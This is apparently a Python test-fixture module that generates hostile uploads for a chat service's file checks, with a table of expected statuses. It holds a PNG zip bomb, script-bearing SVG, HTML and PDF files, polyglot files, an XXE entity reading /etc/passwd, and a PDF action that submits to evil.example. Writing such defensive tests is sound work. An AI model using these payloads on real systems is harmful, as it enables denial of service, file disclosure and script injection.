"""Files made to hurt: what they are called, what they hold, and what must come of them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

SCRIPT = b"<script>document.title='ran'</script>"


def png(size: tuple[int, int] = (40, 30), *, tail: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).save(out, "PNG")
    return out.getvalue() + tail


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_of(*chunks: bytes, size: tuple[int, int] = (8, 8)) -> bytes:
    header = struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0)
    rows = b"".join(b"\0" + bytes(3 * 8) for _ in range(8))
    body = _chunk(b"IDAT", zlib.compress(rows))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(chunks) + body + _chunk(b"IEND", b"")


def zip_bomb_in_png() -> bytes:
    """A picture with a text chunk of a few kilobytes that unpacks to 200 megabytes."""
    return _png_of(_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)))


def script_in_picture() -> bytes:
    return _png_of(_chunk(b"tEXt", b"Comment\0" + SCRIPT))


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("a.html", SCRIPT)
    return out.getvalue()


def pdf(pages: int = 1) -> bytes:
    out = io.BytesIO()
    drawn = [Image.new("RGB", (200, 280), "white") for _ in range(pages)]
    drawn[0].save(out, "PDF", save_all=True, append_images=drawn[1:])
    return out.getvalue()


def pdf_with_script() -> bytes:
    """A page that asks its reader to run a script and to open an address as soon as it is seen."""
    acts = b"<</S/JavaScript/JS(app.alert(1);this.submitForm('http://evil.example/'))>>"
    return b"\n".join(
        [
            b"%PDF-1.4",
            b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction " + acts + b">>endobj",
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj",
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O " + acts + b">>>>endobj",
            b"trailer<</Root 1 0 R>>",
            b"%%EOF",
        ]
    )


def pdf_of_a_huge_page() -> bytes:
    return pdf_with_script().replace(b"[0 0 200 200]", b"[0 0 14000000 14000000]")


# name → (file name, content, status of the chat's upload, type it is kept as)
UPLOADS: dict[str, tuple[str, bytes, int, str]] = {
    "svg with script": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', 415, ""),
    "page with script": ("a.html", b"<!doctype html>" + SCRIPT, 415, ""),
    "page called a photo": ("photo.jpg", b"<!doctype html>" + SCRIPT, 415, ""),
    "svg called a photo": ("photo.png", b'<svg onload="alert(1)"/>', 415, ""),
    "program called a photo": ("photo.jpg", b"MZ" + bytes(200), 415, ""),
    "archive": ("a.zip", archive(), 415, ""),
    "archive called a pdf": ("a.pdf", archive(), 415, ""),
    "xml": ("a.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 415, ""),
    "nothing": ("a.png", b"", 422, ""),
    "cut off picture": ("a.png", png((200, 200))[:900], 415, ""),
    "huge picture": ("a.png", _png_of(size=(60_000, 60_000)), 413, ""),
    "zip bomb in a picture": ("a.png", zip_bomb_in_png(), 415, ""),
    "picture with a page behind it": ("a.html", png(tail=b"<html>" + SCRIPT), 200, "image/png"),
    "picture with an archive behind it": ("a.zip", png(tail=archive()), 200, "image/png"),
    "picture with script in it": ("a.png", script_in_picture(), 200, "image/png"),
    "picture called a page": ("报价.html", png(), 200, "image/png"),
    "pdf with script": ("a.pdf", pdf_with_script(), 200, "application/pdf"),
    "pdf with a page before its head": ("a.html", b"%PDF-1.4\n" + SCRIPT + pdf(), 200, "application/pdf"),
    "cut off pdf": ("a.pdf", pdf()[:400], 200, "application/pdf"),
    "sound with a page inside": ("a.html", b"ID3\x04\x00\x00" + SCRIPT + bytes(300), 200, "audio/mpeg"),
}  # fmt: skip
